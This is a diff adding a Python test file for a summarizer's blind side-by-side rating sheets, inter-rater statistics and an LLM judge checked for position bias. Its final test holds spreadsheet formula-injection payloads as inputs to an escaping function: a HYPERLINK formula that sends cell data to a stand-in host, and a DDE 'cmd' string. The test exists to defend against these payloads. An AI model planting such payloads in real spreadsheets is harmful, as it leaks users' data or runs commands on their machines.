@@ -1,0 +1,181 @@
+"""``compare`` and ``judge`` on two real batch runs of the same articles (the built-in summarizer against the
+loopback stand-in model): a blind sheet in CSV and XLSX, read back after hand edits (rows reordered, a column
+added, blanks, Excel's semicolon dialect in GB18030, an .xlsx), win rates with Wilson intervals, Cohen's kappa
+on hand-made examples, runs that differ in their documents, and a judge asked in both orders."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import pytest
+from conftest import llm_settings
+from llm_server import LLMServer
+
+from summarizer.cli.main import main
+from summarizer.compare.ratings import A, B, TIE, Tally, cohen_kappa, read_ratings, wilson
+from summarizer.config.settings import Settings
+from summarizer.run.batch import run_batch
+
+CITIES = ["Hangzhou", "Lyon", "Porto", "Tartu", "Leeds", "Graz"]
+
+
+def _articles(path: Path, n: int = 6, skip: tuple[int, ...] = ()) -> Path:
+    with path.open("w", encoding="utf-8") as f:
+        for i in range(n):
+            if i in skip:
+                continue
+            city = CITIES[i % len(CITIES)]
+            text = (f"The council of {city} approved a budget of {i + 3} million euros for district {i} on Monday. "
+                    f"The mayor said the money will repair roads and schools before winter. Critics said the plan "
+                    f"ignores buses. A vote on transit is expected in May. " * (1 + 4 * (i % 2)))
+            f.write(json.dumps({"id": f"a{i}", "title": f"{city} budget", "text": text}) + "\n")
+    return path
+
+
+@pytest.fixture(scope="module")
+def runs(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("compare")
+    source = _articles(folder / "articles.jsonl")
+    run_batch(source, folder / "offline", Settings(backend="extractive"), history=False)
+    with LLMServer() as server:
+        run_batch(source, folder / "model", llm_settings(server, use_cache=False), history=False)
+    return folder
+
+
+def _sheet(runs: Path, tmp_path: Path, capsys, *extra: str) -> Path:
+    base = tmp_path / "sheet"
+    assert main(["compare", str(runs / "offline"), str(runs / "model"), "-o", str(base), "--seed", "7", *extra]) == 0
+    capsys.readouterr()
+    return base
+
+
+def test_the_sheet_is_blind_and_holds_both_summaries_flags_costs_and_times(runs, tmp_path, capsys):
+    base = tmp_path / "sheet"
+    assert main(["compare", str(runs / "offline"), str(runs / "model"), "-o", str(base), "--seed", "7"]) == 0
+    printed = capsys.readouterr().out
+    assert "| length | documents |" in printed and "test-model" in printed  # the table names the runs, the sheet not
+    raw = (tmp_path / "sheet.csv").read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM: Excel reads UTF-8
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
+    assert len(rows) == 6 and {r["id"] for r in rows} == {f"a{i}" for i in range(6)}
+    assert "test-model" not in raw.decode("utf-8-sig") and "offline" not in raw.decode("utf-8-sig")
+    assert all(r["summary 1"] and r["summary 2"] and r["summary 1"] != r["summary 2"] for r in rows)
+    assert all(r["choice"] == "" and r["comment"] == "" for r in rows)
+    key = json.loads((tmp_path / "sheet.key.json").read_text())
+    assert set(key["order"].values()) == {"ab", "ba"}  # the order is random per row (seed 7 gives both)
+    model_first = [r for r in rows if key["order"][r["id"]] == "ba"][0]
+    assert model_first["cost 1 (USD)"] == "" or float(model_first["cost 1 (USD)"]) >= 0
+    from openpyxl import load_workbook
+
+    book = load_workbook(tmp_path / "sheet.xlsx")
+    assert [c.value for c in book["ratings"][1]][:6] == ["id", "title", "genre", "length", "summary 1", "summary 2"]
+    assert book["ratings"].max_row == 7
+
+
+def _fill(rows: list[dict], key: dict, prefer: str) -> list[dict]:
+    """Ratings that prefer run ``prefer`` (a or b) on every row, written as the column it sits in."""
+    for r in rows:
+        r["choice"] = "1" if (key["order"][r["id"]] == "ab") == (prefer == A) else "2"
+    return rows
+
+
+def test_a_sheet_edited_by_hand_in_excel_reads_back(runs, tmp_path, capsys):
+    base = _sheet(runs, tmp_path, capsys)
+    key = json.loads((tmp_path / "sheet.key.json").read_text())
+    rows = _fill(list(csv.DictReader(io.StringIO((tmp_path / "sheet.csv").read_text("utf-8-sig")))), key, B)
+    rows[0]["choice"], rows[1]["choice"], rows[2]["choice"] = "", " Tie ", "maybe"  # blank, tie, not a rating
+    rows.reverse()  # rows reordered
+    edited = tmp_path / "sheet filled.csv"
+    text = io.StringIO()
+    writer = csv.DictWriter(text, ["rater", *rows[0].keys()], delimiter=";")  # a column added, Excel's ; dialect
+    writer.writeheader()
+    writer.writerows({"rater": "Li", **r} for r in rows)
+    edited.write_bytes(text.getvalue().encode("gb18030"))
+    ratings, _, notes = read_ratings(edited, base.with_name("sheet.key.json"))
+    assert len(ratings) == 4 and sum(r.winner == TIE for r in ratings) == 1 and sum(r.winner == B for r in ratings) == 3
+    assert any("maybe" in n for n in notes)
+    assert main(["compare", "--ratings", str(edited), "--key", str(tmp_path / "sheet.key.json"), "--json"]) == 0
+    report = json.loads(capsys.readouterr().out)
+    assert report["overall"]["b"] == 3 and report["overall"]["tie"] == 1 and report["overall"]["a"] == 0
+    assert report["overall"]["a_win_rate"]["share"] == 0 and report["by_length"] and report["by_genre"]["article"]
+
+    from openpyxl import load_workbook  # the .xlsx filled in Excel: every row prefers run a
+
+    book = load_workbook(tmp_path / "sheet.xlsx")
+    sheet = book["ratings"]
+    for row in sheet.iter_rows(min_row=2):
+        row[12].value = 1 if key["order"][row[0].value] == "ab" else 2  # a number, as Excel stores it
+    book.save(tmp_path / "sheet.xlsx")
+    ratings, _, _ = read_ratings(tmp_path / "sheet.xlsx")
+    assert len(ratings) == 6 and all(r.winner == A for r in ratings)
+
+
+def test_win_rate_interval_and_kappa_on_hand_made_examples():
+    share, low, high = wilson(8, 10)  # Wilson 95 %: 0.8 in (0.490, 0.943)
+    assert share == 0.8 and round(low, 3) == 0.490 and round(high, 3) == 0.943
+    t = Tally(a=8, b=2, tie=3)
+    assert t.win_rate(A)[0] == 0.8 and t.win_rate(B)[0] == 0.2 and t.n == 13
+    # two raters over 10 documents, 7 agreements; marginals a 5/6, b 3/3, tie 2/1: pe = (30 + 9 + 2) / 100
+    one = dict(zip("0123456789", [A, A, A, A, A, B, B, B, TIE, TIE], strict=True))
+    two = dict(zip("0123456789", [A, A, A, A, B, B, B, A, TIE, A], strict=True))
+    kappa, n = cohen_kappa(one, two)
+    assert n == 10 and round(kappa, 4) == round((0.7 - 0.41) / (1 - 0.41), 4) == 0.4915
+    assert cohen_kappa(one, {k: v for k, v in one.items()})[0] == 1.0
+
+
+def test_runs_that_differ_in_their_documents_are_refused_with_the_list_or_compared_on_the_common_ones(runs, tmp_path,
+                                                                                                      capsys):
+    fewer = _articles(tmp_path / "fewer.jsonl", skip=(2, 4))
+    run_batch(fewer, tmp_path / "fewer", Settings(backend="extractive"), history=False)
+    assert main(["compare", str(tmp_path / "fewer"), str(runs / "model"), "-o", str(tmp_path / "s")]) == 2
+    message = capsys.readouterr().err
+    assert "2 (a2, a4) only in model" in message and "--common-only" in message and "Traceback" not in message
+    assert main(["compare", str(tmp_path / "fewer"), str(runs / "model"), "-o", str(tmp_path / "s"), "--common-only"]) == 0
+    assert len(list(csv.DictReader(io.StringIO((tmp_path / "s.csv").read_text("utf-8-sig"))))) == 4
+    assert main(["compare", str(tmp_path), str(runs / "model")]) == 2
+    assert "not a batch output folder" in capsys.readouterr().err
+
+
+def test_a_judge_is_asked_both_orders_and_a_position_biased_one_calls_everything_a_tie(runs, tmp_path, capsys,
+                                                                                         monkeypatch):
+    base = _sheet(runs, tmp_path, capsys)
+    key = json.loads((tmp_path / "sheet.key.json").read_text())
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "sheet.csv").read_text("utf-8-sig"))))
+    longer_side = {r["id"]: (A if (len(r["summary 1"]) >= len(r["summary 2"])) == (key["order"][r["id"]] == "ab") else B)
+                   for r in rows}
+    for r in rows:  # people agree with a judge that prefers the longer summary
+        r["choice"] = "1" if (longer_side[r["id"]] == A) == (key["order"][r["id"]] == "ab") else "2"
+    with (tmp_path / "sheet.csv").open("w", encoding="utf-8-sig", newline="") as f:
+        writer = csv.DictWriter(f, rows[0].keys())
+        writer.writeheader()
+        writer.writerows(rows)
+    monkeypatch.setenv("SUMMARIZER_API_KEY", "sk-test-0000")
+    with LLMServer() as server:
+        args = ["judge", str(runs / "offline"), str(runs / "model"), "--model", "judge-model", "--base-url",
+                server.base_url, "-o", str(tmp_path / "verdicts.jsonl"), "--ratings", str(base.with_suffix(".csv"))]
+        assert main(args) == 2  # the price is unknown: refused without --yes, before any request
+        assert "Add --yes" in capsys.readouterr().err and not server.state.chat_requests
+        assert main([*args, "--yes"]) == 0
+        printed = capsys.readouterr().out
+        asked = [r.body["messages"][-1]["content"] for r in server.state.chat_requests]
+        assert len(asked) == 12 and all('<summary id="1">' in a and "<document>" in a for a in asked)
+        verdicts = [json.loads(line) for line in (tmp_path / "verdicts.jsonl").read_text().splitlines()]
+        assert {v["id"]: v["winner"] for v in verdicts} == longer_side  # both orders agree: the longer one wins
+        assert all(len(v["picks"]) == 2 and v["reasons"][0] for v in verdicts)
+        assert "Cohen's kappa 1.00 over 6 documents" in printed
+    with LLMServer(judge_first=True) as biased:
+        args[args.index("--base-url") + 1] = biased.base_url
+        assert main([*args, "--yes"]) == 0
+        verdicts = [json.loads(line) for line in (tmp_path / "verdicts.jsonl").read_text().splitlines()]
+        assert all(v["winner"] == TIE and v["picks"] == [A, B] for v in verdicts)
+
+
+def test_document_text_that_excel_would_run_is_written_as_text():
+    from summarizer.compare.sheet import csv_cell
+
+    assert csv_cell('=HYPERLINK("http://x.test/?"&A1)').startswith("'=")
+    assert csv_cell("+1+cmd|' /C calc'!A0").startswith("'") and csv_cell("@SUM(1)").startswith("'")
+    assert csv_cell("-2+3").startswith("'") and csv_cell("- a Markdown bullet") == "- a Markdown bullet"
